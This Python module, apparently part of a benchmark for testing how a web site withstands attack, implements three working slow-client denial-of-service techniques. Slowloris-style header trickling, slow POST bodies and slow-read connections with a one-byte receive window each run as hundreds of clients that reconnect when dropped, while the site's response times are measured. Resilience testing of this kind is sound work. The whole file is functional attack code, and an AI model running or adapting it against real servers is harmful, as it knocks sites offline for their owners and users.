"""Clients that take their time: with their headers, with the body of a form, with taking what they asked for."""

import asyncio
import re
import socket
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field

from bench.attack.people import CELLS, Waits, read_pages
from bench.attack.target import Bounds, Target, Visitor

WORDS = "send headers and bodies, and read answers, a byte at a time"
CLIENTS = (200,)
HEAD = ("clients of a kind", "kind", *CELLS)
PACE = 1.0  # seconds between two bytes
UNTIL_ALL_ARE_THERE = 2.0
PROMISED = 100_000  # bytes of a body
AT_ONCE = 50  # requests of one reader: more than the buffers of the machine hold of answers
_SHEET = re.compile(r'href="(/static/[^"]+\.css)"')

type Client = Callable[[Target, str], Awaitable[None]]


async def _headers(target: Target, large: str) -> None:
    await _trickle(target, f"GET / HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: ")


async def _bodies(target: Target, large: str) -> None:
    form = "Content-Type: application/x-www-form-urlencoded"
    await _trickle(
        target, f"POST /search/ HTTP/1.1\r\nHost: {target.host}\r\n{form}\r\nContent-Length: {PROMISED}\r\n\r\nq="
    )


async def _trickle(target: Target, beginning: str) -> None:
    """Until the site ends it."""
    reader, writer = await asyncio.open_connection(target.host, target.port)
    try:
        writer.write(beginning.encode())
        while not reader.at_eof():
            writer.write(b"a")
            await writer.drain()
            with suppress(TimeoutError):
                await asyncio.wait_for(reader.read(1), PACE)
    finally:
        writer.close()
        with suppress(OSError):
            await writer.wait_closed()


async def _readers(target: Target, large: str) -> None:
    """Through a window as small as it goes."""
    asked = f"GET {large} HTTP/1.1\r\nHost: {target.host}\r\nAccept-Encoding: identity\r\n\r\n"
    loop = asyncio.get_running_loop()
    with socket.socket(socket.AF_INET6 if ":" in target.host else socket.AF_INET) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        connection.setblocking(False)
        await loop.sock_connect(connection, (target.host, target.port))
        await loop.sock_sendall(connection, asked.encode() * AT_ONCE)
        while await loop.sock_recv(connection, 1):
            await asyncio.sleep(PACE)


KINDS: dict[str, Client] = {"headers": _headers, "bodies": _bodies, "readers": _readers}


async def _again_and_again(kind: str, target: Target, large: str, bounds: Bounds, answers: Counter[str]) -> None:
    """Who is sent away comes back."""
    while bounds.spend():
        with suppress(OSError):
            await KINDS[kind](target, large)
        answers[f"{kind} sent away"] += 1
        await asyncio.sleep(PACE)


@dataclass
class Outcome:
    clients: int
    answers: Counter[str] = field(default_factory=Counter)
    waits: dict[str, Waits] = field(default_factory=dict)

    def rows(self) -> list[list[str]]:
        return [[str(self.clients), kind, *waits.cells()] for kind, waits in self.waits.items()]


async def attack(target: Target, bounds: Bounds, account: object) -> Outcome:
    """So many clients of each kind, one kind after another, then all at once: a quarter of the time for each."""
    outcome = Outcome(bounds.clients)
    large = max(_SHEET.findall((await Visitor(target).get("/")).body), key=len, default="/")
    for kinds in (*((kind,) for kind in KINDS), tuple(KINDS)):
        slow = [
            asyncio.create_task(_again_and_again(kind, target, large, bounds, outcome.answers))
            for kind in kinds
            for _ in range(bounds.clients)
        ]
        try:
            await asyncio.sleep(UNTIL_ALL_ARE_THERE)
            outcome.waits[" + ".join(kinds)] = await read_pages(target, bounds.seconds / 4)
        finally:
            for one in slow:
                one.cancel()
            await asyncio.gather(*slow, return_exceptions=True)
    return outcome
